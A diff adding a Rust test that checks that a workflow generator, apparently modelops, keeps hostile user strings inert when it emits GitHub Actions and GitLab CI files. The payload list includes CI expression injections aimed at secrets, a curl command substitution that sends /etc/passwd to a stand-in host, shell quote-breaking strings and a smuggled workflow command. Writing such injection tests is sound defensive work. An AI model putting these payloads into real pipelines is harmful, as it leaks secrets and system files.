@@ -264,3 +264,204 @@ fn path_filters_follow_a_real_prompt_change() {
         "triage does not run for it"
     );
 }
+
+/// A KDL string literal of `text`.
+fn kdl_string(text: &str) -> String {
+    let mut out = String::from("\"");
+    for c in text.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Every string in a YAML document, with the path to it.
+fn strings<'a>(value: &'a Value, path: String, out: &mut Vec<(String, &'a str)>) {
+    match value {
+        Value::String(s) => out.push((path, s)),
+        Value::Array(items) => {
+            for (i, item) in items.iter().enumerate() {
+                strings(item, format!("{path}[{i}]"), out);
+            }
+        }
+        Value::Object(map) => {
+            for (key, item) in map {
+                strings(item, format!("{path}.{key}"), out);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// The GitHub expressions (`${{ … }}`) in a string.
+fn expressions(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut rest = text;
+    while let Some(start) = rest.find("${{") {
+        let after = &rest[start + 3..];
+        // Skip quoted strings inside the expression, as GitHub's parser does.
+        let mut end = None;
+        let mut quoted = false;
+        let bytes = after.as_bytes();
+        let mut i = 0;
+        while i < bytes.len() {
+            match bytes[i] {
+                b'\'' => quoted = !quoted,
+                b'}' if !quoted && bytes.get(i + 1) == Some(&b'}') => {
+                    end = Some(i);
+                    break;
+                }
+                _ => {}
+            }
+            i += 1;
+        }
+        let Some(end) = end else { break };
+        out.push(after[..end].trim().to_owned());
+        rest = &after[end + 2..];
+    }
+    out
+}
+
+/// User strings that reach a workflow — a smoke request and its expected text, the
+/// gate's command, judge and dataset — carrying payloads for GitHub's expression
+/// evaluation, GitLab's variable expansion, the shell, workflow commands and path
+/// globs: in every generated workflow they are data. GitHub sees only its own
+/// expressions (`vars`, `secrets` the config names, `github.base_ref`, and the
+/// escape `'${{'`); GitLab variables carry `$` only as `$$` or as modelops' own
+/// references; no payload is pasted into a script; path filters match the file
+/// itself. actionlint accepts the result.
+#[test]
+fn hostile_values_reach_workflows_as_data() {
+    let payloads = [
+        "${{ secrets.PROD_KEY }}",
+        "${{github.token}} $CI_JOB_TOKEN ${CI_JOB_TOKEN}",
+        "$(curl -d @/etc/passwd evil.example) `id`",
+        "'; echo pwned; '\" && echo pwned",
+        "line\n::add-mask::x\necho pwned\n${{ secrets.PROD_KEY }}",
+    ];
+    for (n, payload) in payloads.iter().enumerate() {
+        let repo = copy_example();
+        let word: String = payload.split_whitespace().collect::<Vec<_>>().join("");
+        let dataset = format!("datasets/g[1]*?{{a,b}}!$CI_JOB_TOKEN{n}.jsonl");
+        std::fs::write(repo.path().join(&dataset), "{\"id\": 1}\n").unwrap();
+        let model_path = repo.path().join("models/triage.kdl");
+        let model = std::fs::read_to_string(&model_path)
+            .unwrap()
+            .replace(
+                "request \"Hello\" expect-status=200\n            request",
+                &format!("request {} expect-contains={}\n            request", kdl_string(payload), kdl_string(payload)),
+            )
+            .replace(
+                "run \"python evals/run.py --endpoint {{endpoint}} --out {{scores}}\"\n            dataset \"datasets/triage-golden.jsonl\"\n            judge \"openai/gpt-4o-2024-08-06\"",
+                &format!(
+                    "run {}\n            dataset {}\n            judge {}",
+                    kdl_string(&format!("python evals/run.py --endpoint {{{{endpoint}}}} --tag {payload}")),
+                    kdl_string(&dataset),
+                    kdl_string(&format!("vertex/x{word}@20240620")),
+                ),
+            );
+        assert!(model.contains(&kdl_string(&dataset)), "the example changed");
+        std::fs::write(&model_path, model).unwrap();
+        let lock = modelops_in(repo.path(), &["lock"]);
+        assert_eq!(lock.code, 0, "{payload:?}: {}", lock.stderr);
+        let compile = modelops_in(repo.path(), &["compile", "--target", "github-actions"]);
+        assert_eq!(compile.code, 0, "{payload:?}: {}", compile.stderr);
+        let compile = modelops_in(repo.path(), &["compile", "--target", "gitlab-ci"]);
+        assert_eq!(compile.code, 0, "{payload:?}: {}", compile.stderr);
+        let markers = [
+            "PROD_KEY",
+            "CI_JOB_TOKEN",
+            "evil.example",
+            "pwned",
+            "add-mask",
+            "github.token",
+        ];
+
+        let github = repo.path().join("generated/github-actions/triage.yml");
+        let workflow: Value =
+            serde_saphyr::from_str(&std::fs::read_to_string(&github).unwrap()).unwrap();
+        let mut found = Vec::new();
+        strings(&workflow, String::new(), &mut found);
+        for (path, text) in &found {
+            for expression in expressions(text) {
+                let ours = expression == "'${{'"
+                    || expression == "github.base_ref"
+                    || expression == "github.ref"
+                    || expression.strip_prefix("vars.").is_some_and(|v| {
+                        v.bytes()
+                            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+                    })
+                    || expression
+                        .strip_prefix("secrets.")
+                        .is_some_and(|v| ["OPENAI_API_KEY", "ANTHROPIC_API_KEY"].contains(&v));
+                assert!(
+                    ours,
+                    "{payload:?}: GitHub would evaluate `{expression}` at {path}: {text:?}"
+                );
+            }
+            if path.ends_with(".run") {
+                for marker in markers {
+                    assert!(
+                        !text.contains(marker),
+                        "{payload:?}: pasted into {path}: {text}"
+                    );
+                }
+            }
+        }
+        let filters: Vec<&str> = found
+            .iter()
+            .filter(|(path, _)| path.contains(".paths["))
+            .map(|(_, text)| *text)
+            .collect();
+        let escaped =
+            "datasets/g\\[1\\]\\*\\?{a,b}\\!$CI_JOB_TOKEN".to_owned() + &format!("{n}.jsonl");
+        assert!(
+            filters.contains(&escaped.as_str()),
+            "{payload:?}: {filters:?}"
+        );
+        if let Some(findings) = support::actionlint(&[&github]) {
+            assert!(findings.is_empty(), "{payload:?}: {findings:#?}");
+        }
+
+        let gitlab = repo.path().join("generated/gitlab-ci/triage.yml");
+        let pipeline: Value =
+            serde_saphyr::from_str(&std::fs::read_to_string(&gitlab).unwrap()).unwrap();
+        let mut found = Vec::new();
+        strings(&pipeline, String::new(), &mut found);
+        for (path, text) in &found {
+            if path.contains(".variables.") {
+                // modelops' own references are the whole value: `$NAME`.
+                let reference = text.strip_prefix('$').is_some_and(|name| {
+                    !name.is_empty()
+                        && name
+                            .bytes()
+                            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+                });
+                let unescaped = text.replace("$$", "").contains('$');
+                assert!(
+                    reference || !unescaped,
+                    "{payload:?}: GitLab would expand {path}: {text:?}"
+                );
+            }
+            if path.contains(".script[") {
+                for marker in markers {
+                    assert!(
+                        !text.contains(marker),
+                        "{payload:?}: pasted into {path}: {text}"
+                    );
+                }
+            }
+            if path.contains(".changes[") && text.contains("g\\[1") {
+                assert_eq!(
+                    *text,
+                    format!("datasets/g\\[1\\]\\*\\?\\{{a,b\\}}!$CI_JOB_TOKEN{n}.jsonl")
+                );
+            }
+        }
+    }
+}
